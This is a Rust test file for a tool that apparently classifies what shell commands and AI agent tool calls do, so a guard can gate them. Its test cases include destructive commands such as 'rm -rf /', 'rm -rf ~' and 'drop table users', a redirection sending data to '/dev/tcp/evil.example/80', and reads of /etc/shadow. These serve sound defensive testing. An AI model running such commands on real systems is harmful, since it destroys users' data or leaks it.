//! What commands do, from tables of cases.

use std::collections::HashSet;

use proptest::prelude::*;
use serde::Deserialize;
use tollgate_core::event::ToolCall;
use tollgate_shell::effects::{
    self, Answer, Effect, Effects, Kind, Location, Place, Target, Thing, of_analysis, of_call,
    of_command,
};
use tollgate_shell::resolve::{Access, Analysis, Input, Redirection, Surroundings, Unknown, Why};
use tollgate_shell::{Command, Part, Value, analyze};

const HERE: &str = "/home/dev/project";

#[derive(Deserialize)]
struct Row {
    command: Words,
    cwd: Option<String>,
    input: Option<String>,
    effects: Vec<String>,
}

/// A list of arguments, or the text of a script.
#[derive(Deserialize)]
#[serde(untagged)]
enum Words {
    List(Vec<Word>),
    Text(String),
}

/// Text in which a leading `~` is the home and `$?` is not known, or a glob.
#[derive(Deserialize)]
#[serde(untagged)]
enum Word {
    Text(String),
    Glob { glob: String },
}

fn value(text: &str) -> Value {
    let mut value = Value::default();
    let mut rest = text;
    if let Some(below) = text.strip_prefix('~')
        && (below.is_empty() || below.starts_with('/'))
    {
        value.push(Part::Home);
        rest = below;
    }
    for (index, piece) in rest.split("$?").enumerate() {
        if index > 0 {
            value.push(Part::Unknown);
        }
        value.push_str(piece);
    }
    value
}

fn glob(text: &str) -> Value {
    let mut value = Value::default();
    for letter in text.chars() {
        if matches!(letter, '*' | '?') {
            value.push(Part::Glob(letter.to_string()));
        } else {
            value.push_str(&letter.to_string());
        }
    }
    value
}

fn command(argv: Vec<Value>, directory: &str) -> Command {
    Command { argv, directories: vec![Value::text(directory)].into(), ..Command::default() }
}

fn argv(words: &[&str]) -> Command {
    command(words.iter().map(|word| value(word)).collect(), HERE)
}

fn told(effects: &[Effect]) -> Vec<String> {
    effects.iter().map(ToString::to_string).collect()
}

#[test]
fn commands_do_what_the_cases_say() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../cases/shell/effects.json");
    let rows: Vec<Row> = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    assert!(rows.len() >= 250, "{} rows", rows.len());
    let mut wrong = Vec::new();
    for row in &rows {
        let directory = row.cwd.as_deref().unwrap_or(HERE);
        let (name, effects) = match &row.command {
            Words::Text(text) => {
                let surroundings = Surroundings { directory: Some(directory.to_owned()) };
                (text.clone(), of_analysis(&analyze(text, &surroundings)).list)
            }
            Words::List(words) => {
                let argv: Vec<Value> = words
                    .iter()
                    .map(|word| match word {
                        Word::Text(text) => value(text),
                        Word::Glob { glob: text } => glob(text),
                    })
                    .collect();
                let mut command = command(argv, directory);
                if let Some(text) = &row.input {
                    command.input = Input::Text(Value::text(text));
                }
                let name: Vec<_> = command.argv.iter().map(ToString::to_string).collect();
                (name.join(" "), of_command(&command))
            }
        };
        if told(&effects) != row.effects {
            wrong.push(format!("{name}\n  is  {:?}\n  not {:?}", told(&effects), row.effects));
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

fn location(text: &str) -> Location {
    let has_glob = text.contains(['*', '?']) && !text.contains("$?");
    let value = if has_glob { glob(text) } else { value(text) };
    let value = if has_glob && text.starts_with('~') {
        let mut home = Value::default();
        home.push(Part::Home);
        home.append(&glob(&text[1..]));
        home
    } else {
        value
    };
    Location::of(&value, &[Value::text(HERE)])
}

#[test]
fn paths_are_in_places() {
    let cases = [
        ("/", "root"),
        ("/*", "root"),
        ("/*/*", "root"),
        ("/$?", "root"),
        ("//", "root"),
        ("/etc/..", "root"),
        ("/dev/null", "null"),
        ("/dev/stdout", "null"),
        ("/dev/fd/3", "null"),
        ("/proc/self/fd/1", "null"),
        ("/dev/sda", "device"),
        ("/dev/nvme0n1p1", "device"),
        ("/dev/disk/by-id/x", "device"),
        ("/dev/mem", "device"),
        ("/dev/sd*", "device"),
        ("/dev", "system"),
        ("/dev/shm", "system"),
        ("/dev/shm/x", "temporary"),
        ("/etc", "system"),
        ("/etc/passwd", "system"),
        ("/e*", "system"),
        ("/???", "system"),
        ("/etc/*", "system"),
        ("/usr/local/bin/x", "system"),
        ("/var/www/html", "system"),
        ("/var/tmp", "system"),
        ("/var/tmp/x", "temporary"),
        ("/tmp", "system"),
        ("/tmp/*", "system"),
        ("/tmp/x", "temporary"),
        ("/tmp/x/*", "temporary"),
        ("/tmp/$?", "temporary"),
        ("/tmp/x*", "temporary"),
        ("/home", "system"),
        ("/home/*", "system"),
        ("/root/x", "system"),
        ("/root", "home"),
        ("~", "home"),
        ("~/*", "home"),
        ("~/.*", "home"),
        ("~/$?", "home"),
        ("/home/dev", "home"),
        ("/home/dev/*", "home"),
        ("/home/other", "home"),
        ("/Users/dev", "home"),
        ("..", "home"),
        ("../*", "home"),
        ("~/.ssh", "personal"),
        ("~/Documents/*", "personal"),
        ("/home/dev/.bashrc", "personal"),
        ("../sibling", "personal"),
        ("~/..", "system"),
        (".", "workspace"),
        ("*", "workspace"),
        ("./*", "workspace"),
        ("$?/*", "unknown"),
        ("./$?", "workspace"),
        ("/home/dev/project", "workspace"),
        ("~/project", "workspace"),
        ("~/project/*", "workspace"),
        ("~/proj*", "workspace"),
        ("src/..", "workspace"),
        (".git", "repository"),
        (".git/hooks/x", "repository"),
        ("sub/.git/config", "repository"),
        (".g*", "repository"),
        ("src", "inside"),
        ("src/*", "inside"),
        ("*.o", "inside"),
        ("src/$?", "inside"),
        ("./src/../a", "inside"),
        ("~/project/target", "inside"),
        ("$?", "unknown"),
        ("$?/x", "unknown"),
        ("/data/x", "elsewhere"),
        ("/mnt/disk/a/b", "elsewhere"),
        ("/mnt", "system"),
        ("~/.cache", "personal"),
        ("~/.cache/*", "personal"),
        ("~/.cache/pip", "cache"),
        ("/var/lib/apt/lists/*", "temporary"),
        ("/var/cache", "system"),
        ("/run/app.pid", "temporary"),
    ];
    let workspaces = [HERE.to_owned()];
    let mut wrong = Vec::new();
    for (text, wanted) in cases {
        let place = Place::of(&location(text), &workspaces, Some(HERE), &[]).name();
        if place != wanted {
            wrong.push(format!("{text} is {place}, not {wanted}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_place_depends_on_the_workspaces() {
    let place = |text: &str, workspaces: &[&str], directory: Option<&str>| {
        let workspaces: Vec<String> = workspaces.iter().map(|&path| path.to_owned()).collect();
        Place::of(&Location::path(text), &workspaces, directory, &[])
    };
    assert_eq!(place("/srv/app/x", &["/srv/app"], None), Place::Inside);
    assert_eq!(place("/srv", &["/srv/app"], None), Place::System);
    assert_eq!(place("/work", &["/work/a/b"], None), Place::Above);
    assert_eq!(place("/work/a", &["/work/a/b"], None), Place::Above);
    assert_eq!(place("/root/.config/x", &["/root/app"], None), Place::Personal);
    assert_eq!(place("/root/app/x", &["/root/app"], None), Place::Inside);
    assert_eq!(place("/tmp/w", &["/tmp/w"], None), Place::Workspace);
    assert_eq!(place("/work/a", &["/work/a"], Some("/work/a/b")), Place::Workspace);
    assert_eq!(place("/work/a/b", &["/work/a"], Some("/work/a/b/c")), Place::Above);
    assert_eq!(place("~/project/x", &["~/project"], None), Place::Inside);
    assert_eq!(place("x", &[], None), Place::Unknown);
    assert_eq!(place("..", &[], None), Place::Above);
    assert_eq!(place("x", &["/w"], Some("/w")), Place::Inside);
    assert_eq!(place("/data", &["/"], None), Place::Inside);
}

#[test]
fn a_location_may_be_under_a_directory() {
    // Whether it may be at or below, and whether a tree there covers the directory.
    let cases = [
        ("/etc", "/etc", true, true),
        ("/etc/passwd", "/etc", true, false),
        ("/etcetera", "/etc", false, false),
        ("/", "/etc", false, true),
        ("/*", "/etc", true, true),
        ("/e*", "/etc", true, true),
        ("/u*", "/etc", false, false),
        ("/e?c/x", "/etc", true, false),
        ("/$?", "/etc", true, true),
        ("$?", "/etc", true, true),
        ("$?/x", "/etc", true, true),
        ("/tmp/$?", "/etc", false, false),
        ("/tmp/$?", "/tmp/a/b", true, true),
        ("/tmp/$?/x", "/tmp/a", true, false),
        ("/tmp/$?/x", "/tmp/a/x", true, true),
        ("/tmp/a$?", "/tmp/b", false, false),
        ("/tmp/a$?", "/tmp/abc", true, true),
        ("src", "/home/dev/project", true, false),
        ("src", "~/project", true, false),
        ("src", "~", true, false),
        ("..", "~/project", false, true),
        ("~/.ssh/id", "~/.ssh", true, false),
        ("~/.ssh/id", "/home/dev/.ssh", true, false),
        ("~/.ssh/id", "/etc", false, false),
        ("~", "/home", true, false),
        ("~", "/home/dev/.ssh", false, true),
        ("~/*", "/home/dev/.ssh", true, true),
        ("/home", "~/.ssh", false, true),
        ("/home/*", "~/.ssh", false, true),
        ("/home/*/.ssh", "~/.ssh", true, true),
        ("/home/dev/.ssh/x", "~/.ssh/", true, false),
        ("/home/dev/**/x.log", "/home/dev/project", true, false),
    ];
    let mut wrong = Vec::new();
    for (text, dir, under, covers) in cases {
        let location = location(text);
        let got = (location.may_be_under(dir), location.covers(dir, true));
        if got != (under, covers) {
            wrong.push(format!("{text} and {dir}: {got:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(!Location::path("/").covers("/etc", false));
    let nowhere = Location::of(&Value::text("x"), &[]);
    assert_eq!(nowhere.text, "x");
    assert!(nowhere.may_be_under("/etc"));
}

#[test]
fn relative_paths_are_in_every_directory_it_may_run_in() {
    let mut two = argv(&["rm", "x", "/y"]);
    std::sync::Arc::make_mut(&mut two.directories).push(Value::text("/tmp"));
    assert_eq!(
        told(&of_command(&two)),
        ["delete /home/dev/project/x by rm", "delete /tmp/x by rm", "delete /y by rm"]
    );
    let mut none = argv(&["rm", "./x", "../y"]);
    none.directories = Vec::new().into();
    assert_eq!(told(&of_command(&none)), ["delete x by rm", "delete ../y by rm"]);
    let mut unknown = argv(&["rm", "-r", "x"]);
    unknown.directories = vec![Value::unknown()].into();
    assert_eq!(told(&of_command(&unknown)), ["delete-tree $?/x by rm"]);
}

#[test]
fn names_with_letters_of_globs_are_names() {
    let effects = of_command(&argv(&["rm", "a*b"]));
    let Target::Path(location) = &effects[0].target else { panic!("{effects:?}") };
    assert!(location.exact);
    assert!(!location.may_be_under("/home/dev/project/axb"));
    let tilde = {
        let mut value = Value::default();
        value.push_str("~");
        value
    };
    let effects = of_command(&command(vec![Value::text("rm"), tilde], HERE));
    assert_eq!(told(&effects), ["delete /home/dev/project/~ by rm"]);
}

#[test]
fn redirections_are_effects() {
    let redirections = vec![
        Redirection { access: Access::Write, target: value("out") },
        Redirection { access: Access::Append, target: value("~/log") },
        Redirection { access: Access::Read, target: value("/in") },
        Redirection { access: Access::Write, target: value("/dev/tcp/evil.example/80") },
    ];
    let command = Command { redirections, ..command(Vec::new(), HERE) };
    assert_eq!(
        told(&of_command(&command)),
        [
            "write /home/dev/project/out by redirection",
            "write ~/log by redirection",
            "read /in by redirection",
            "send evil.example by redirection",
        ]
    );
}

#[test]
fn answers_tell_what_is_done_from_what_may_be_done_and_what_is_unknown() {
    let of = |words: &[&str]| Effects { list: of_command(&argv(words)), unknowns: Vec::new() };
    assert_eq!(of(&["rm", "-rf", "/"]).deletes_under("/etc"), Answer::Yes);
    assert_eq!(of(&["rm", "-rf", "/"]).writes_under("/etc"), Answer::Yes);
    assert_eq!(of(&["rm", "/"]).deletes_under("/etc"), Answer::No);
    assert_eq!(of(&["touch", "x"]).deletes_under(HERE), Answer::No);
    assert_eq!(of(&["touch", "x"]).writes_under(HERE), Answer::Yes);
    assert_eq!(of(&["touch", "x"]).writes_under("/etc"), Answer::No);
    assert_eq!(of(&["touch", "$?"]).writes_under("/etc"), Answer::Unknown);
    assert_eq!(of(&["touch", "/etc/$?"]).writes_under("/etc"), Answer::Yes);
    assert_eq!(of(&["git", "checkout", "main"]).writes_under(".git/hooks"), Answer::No);
    let hooks = "/home/dev/project/.git/hooks";
    assert_eq!(of(&["git", "checkout", "main"]).writes_under(hooks), Answer::May);
    assert_eq!(of(&["tar", "xzf", "a.tgz"]).writes_under(hooks), Answer::May);
    assert_eq!(of(&["grep", "-r", "x", "/"]).reads_under("/etc/shadow"), Answer::Yes);
    assert_eq!(of(&["ls", "-R", "/"]).reads_under("/etc/shadow"), Answer::No);
    assert_eq!(of(&["cat", "x"]).reads_under("/etc"), Answer::No);
    assert_eq!(of(&["curl", "https://x.example"]).reaches_network(), Answer::Yes);
    assert_eq!(of(&["ls"]).reaches_network(), Answer::No);
    let unknown = Unknown { why: Why::Code, text: String::new() };
    let dark = of_analysis(&Analysis { unknowns: vec![unknown], ..Analysis::default() });
    assert_eq!(dark.writes_under("/etc"), Answer::Unknown);
    assert_eq!(dark.reaches_network(), Answer::Unknown);
}

#[test]
fn calls_of_tools_have_effects() {
    let workspaces = [HERE.to_owned()];
    let told = |call: ToolCall| told(&of_call(&call, &workspaces).list);
    let call = ToolCall::new;
    assert_eq!(
        told(call("write_to_file").arg("TargetFile", "/etc/x")),
        ["write /etc/x by write_to_file"]
    );
    assert_eq!(
        told(call("edit_file").arg("TargetFile", "a.rs")),
        ["write /home/dev/project/a.rs by replace_file_content"]
    );
    assert_eq!(told(call("view_file").arg("AbsolutePath", "/a/../b")), ["read /b by view_file"]);
    assert_eq!(told(call("grep_search").arg("SearchPath", "/w")), ["read-tree /w by grep_search"]);
    assert_eq!(told(call("list_dir")), ["read $? by list_dir"]);
    assert_eq!(
        told(call("read_url_content").arg("Url", "https://x.example:8/a")),
        ["network x.example by read_url_content"]
    );
    assert_eq!(told(call("search_web").arg("query", "x")), ["network $? by search_web"]);
    assert_eq!(told(call("mystery")), ["execute mystery by mystery"]);
    assert_eq!(
        told(call("view_file").server("docs").arg("AbsolutePath", "/x")),
        ["execute view_file by view_file", "read /x by view_file"]
    );
    assert!(told(call("ask_question")).is_empty());
    assert_eq!(
        told(call("run_command").arg("CommandLine", "rm -rf x").arg("Cwd", "/srv")),
        ["delete-tree /srv/x by rm"]
    );
    assert_eq!(
        told(call("run_command").arg("CommandLine", "rm -rf x").arg("Cwd", "sub")),
        ["delete-tree /home/dev/project/sub/x by rm"]
    );
    assert_eq!(
        told(call("run_command").arg("CommandLine", "rm -rf x")),
        ["delete-tree /home/dev/project/x by rm"]
    );
    assert_eq!(of_call(&call("run_command"), &workspaces).unknowns.len(), 1);
}

#[test]
fn the_table_is_large_and_its_names_are_unique() {
    let names: Vec<&str> = effects::names().collect();
    let unique: HashSet<&str> = names.iter().copied().collect();
    assert_eq!(names.len(), unique.len());
    assert!(names.len() >= 150);
    assert!(names.iter().all(|name| effects::is_known(name)));
    assert!(!effects::is_known("no-such-tool"));
}

#[test]
fn things_have_names_of_their_own() {
    let names: HashSet<&str> = Thing::ALL.iter().map(|thing| thing.name()).collect();
    assert_eq!(names.len(), Thing::ALL.len());
}

/// Words that mean something to some tool, or trip over its edges.
const WORDS: &str = "- -- -rf -R --recursive --recurs -n --dry-run --dry-run= -o -ofile --output
    --output= = @ a=b if=x of= / // . .. ~ * \\ ; {} + -exec -delete -name ( ) ! push clean rm run
    delete s3 db y/a s e https://u@[::1]:8/p?q#f host:path : :: ' /* -C -c -e ü -ü --ü=ü 1 -1 -9 %
    +x -t";

fn any_word() -> impl Strategy<Value = Value> {
    let mut known: Vec<&str> = WORDS.split_whitespace().collect();
    known.extend(["", "s/a/b/w x", "1,$w", "DROP TABLE x; DELETE FROM y", "\u{0}"]);
    let known = prop::sample::select(known);
    let piece = prop_oneof![
        6 => known.prop_map(|text| Part::Text(text.to_owned())),
        1 => any::<String>().prop_map(Part::Text),
        1 => Just(Part::Unknown),
        1 => Just(Part::Home),
        1 => prop::sample::select(vec!["*", "?", "[a-z]", "[", "**", "@(a|b)"])
            .prop_map(|text| Part::Glob(text.to_owned())),
    ];
    prop::collection::vec(piece, 1..3).prop_map(|parts| {
        let mut value = Value::default();
        for part in parts {
            value.push(part);
        }
        value
    })
}

fn any_program() -> impl Strategy<Value = Value> {
    let names: Vec<&'static str> = effects::names().collect();
    prop_oneof![
        9 => prop::sample::select(names).prop_map(Value::text),
        1 => any_word(),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 4096, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_argument_list_is_too_much(
        program in any_program(),
        words in prop::collection::vec(any_word(), 0..8),
        directories in prop::collection::vec(any_word(), 0..3),
        input in prop::option::of(any_word()),
    ) {
        let mut argv = vec![program];
        argv.extend(words);
        let input = input.map_or(Input::Pipe, Input::Text);
        let command = Command { argv, directories: directories.into(), input, ..Command::default() };
        let workspaces = [HERE.to_owned(), "/".to_owned(), String::new()];
        for effect in of_command(&command) {
            if let Target::Path(location) = &effect.target {
                prop_assert!(effect.kind <= Kind::Execute);
                Place::of(location, &workspaces, Some(HERE), &[]);
                Place::of(location, &[], None, &[]);
                // A tree always covers what it is itself.
                if location.exact {
                    prop_assert!(location.covers(&location.text, true), "{location:?}");
                    prop_assert!(location.may_be_under(&location.text), "{location:?}");
                }
                location.covers("/etc", true);
                effect.touches("~");
            }
        }
    }
}

/// What cannot be told of a script.
fn doubts(script: &str) -> Vec<String> {
    let found = analyze(script, &Surroundings { directory: Some(HERE.to_owned()) });
    found.unknowns.into_iter().map(|unknown| unknown.text).collect()
}

#[test]
fn an_interpreter_that_is_left_to_its_input_is_a_doubt() {
    let left = [
        "bash",
        "bash -s",
        "bash -i",
        "bash -s -- a b",
        "sh -",
        "exec zsh",
        "cd src && bash",
        "env A=1 bash",
        "bash < /dev/stdin",
        "bash < /dev/tty",
        "bash /dev/stdin",
        "bash /dev/tty",
        "source /dev/stdin",
        "sudo bash",
        "sudo -s",
        "sudo -i",
        "su",
        "su - postgres",
        "chroot /mnt",
        "python3",
        "python3 -",
        "python3 -i",
        "python3 -v",
        "python3 -q",
        "python3 /dev/stdin",
        "node",
        "node -i",
        "ruby",
        "perl",
        "php",
        "irb",
        "ssh build-host",
        "ssh -T build-host",
        "psql",
        "psql -h localhost -U dev app",
        "mysql -u dev app",
        "sqlite3 app.db",
        "redis-cli",
        "mongosh",
        "gdb ./app",
        "sftp host",
        "crontab -",
        "at now",
        "docker exec -i app sh",
    ];
    for script in left {
        assert!(
            doubts(script).iter().any(|text| text.starts_with("what is typed into ")),
            "{script}: {:?}",
            doubts(script)
        );
    }
    let told = [
        "bash build.sh",
        "bash --version",
        "bash -c 'echo hi'",
        "bash < build.sh",
        "echo 'echo hi' | bash",
        "bash <<< 'echo hi'",
        "python3 --version",
        "python3 -V",
        "python3 tool.py",
        "python3 -m http.server",
        "python3 <<'E'\nprint(1)\nE",
        "node -v",
        "node --test",
        "php -v",
        "php -i",
        "ruby -v",
        "ssh -N -L 80:localhost:80 host",
        "ssh -T git@example.org",
        "ssh -V",
        "psql -Atc 'select 1'",
        "psql -l",
        "mysql -e 'select 1' app",
        "sqlite3 app.db .schema",
        "redis-cli ping",
        "gdb -batch -ex bt ./app",
        "sudo -v",
        "sudo -k",
        "sudo -n true",
        "awk '{print}'",
        "crontab -l",
    ];
    for script in told {
        assert_eq!(doubts(script), Vec::<String>::new(), "{script}");
    }
}

#[test]
fn what_is_typed_into_a_running_command_is_seen_as_what_it_does() {
    let done = |command: &str, text: &str| {
        let line = tollgate_shell::typed_into(command, text);
        let here = Surroundings { directory: Some(HERE.to_owned()) };
        let effects = of_analysis(&analyze(&line, &here));
        (told(&effects.list), effects.unknowns.len())
    };
    let deletes = |effects: &(Vec<String>, usize)| {
        effects.0.iter().any(|effect| effect.starts_with("delete-tree ~"))
    };
    // One after the other, in pieces, in a directory that was entered before.
    assert!(deletes(&done("bash", "rm -rf ~\n")));
    assert!(deletes(&done("bash -i", "x=rm\n$x -r\u{4}f ~\n")));
    assert!(deletes(&done("bash", "cd ~/a\nrm -rf b\n")));
    assert!(deletes(&done("cd src && bash", "rm -rf ~\n")));
    assert!(deletes(&done("sudo bash", "rm -rf ~\r")));
    assert!(
        deletes(&done("python3", "import shutil\nshutil.rmtree('/home/dev')\n"))
            || done("python3", "import shutil\nshutil.rmtree('/home/dev')\n")
                .0
                .iter()
                .any(|effect| effect.starts_with("delete-tree /home/dev"))
    );
    assert!(done("psql app", "drop table users;\n").0.iter().any(|it| it.starts_with("destroy")));
    // What ends the text itself is not the end of the text.
    assert!(deletes(&done("exec bash", "TYPED\nrm -rf ~\n")));
    // Programs that ask something.
    assert_eq!(done("npm init", "my project\n").1, 0);
    assert_eq!(done("npm init", "\u{1b}[B\n").1, 0);
    // Keys that change what was typed.
    assert_eq!(done("bash", "echo x\u{7f}y\n").1, 1);
    assert_eq!(done("bash", "rm -rf ~/impor\t\n").1, 1);
    // A command that is no whole one cannot take what is typed for its own.
    assert_ne!(done("cat <<E; bash", "E\n}\nrm -rf ~\n").1, 0);
}

#[test]
fn what_is_typed_into_a_task_is_code_to_a_guard_that_does_not_know_the_task() {
    let typed = |text: &str| {
        let call = ToolCall::new("manage_task").arg("Action", "send_input").arg("TaskId", "task-1");
        of_call(&call.arg("Input", text), &[HERE.to_owned()])
    };
    assert_eq!(told(&typed("rm -rf ~\n").list), ["delete-tree ~ by rm"]);
    for doubt in
        ["rm", "ls -l\n", "shutil.rmtree('/')\n", "File.delete 'x'\n", "\u{1b}[A\n", "a\nb c\n"]
    {
        assert!(!typed(doubt).unknowns.is_empty(), "{doubt:?}");
    }
    for answer in ["y\n", "\n", "my-project\n", "1.0.2\n", "3\r", "\u{4}"] {
        assert!(typed(answer).unknowns.is_empty(), "{answer:?}");
    }
    assert!(typed("shutdown\n").list.iter().any(|effect| effect.kind == Kind::System));
    // What is relative is relative to wherever the shell is by now.
    assert_eq!(told(&typed("rm x\n").list), ["delete x by rm"]);
    let other = ToolCall::new("manage_task").arg("Action", "status").arg("TaskId", "task-1");
    assert_eq!(of_call(&other, &[]), Effects::default());
}
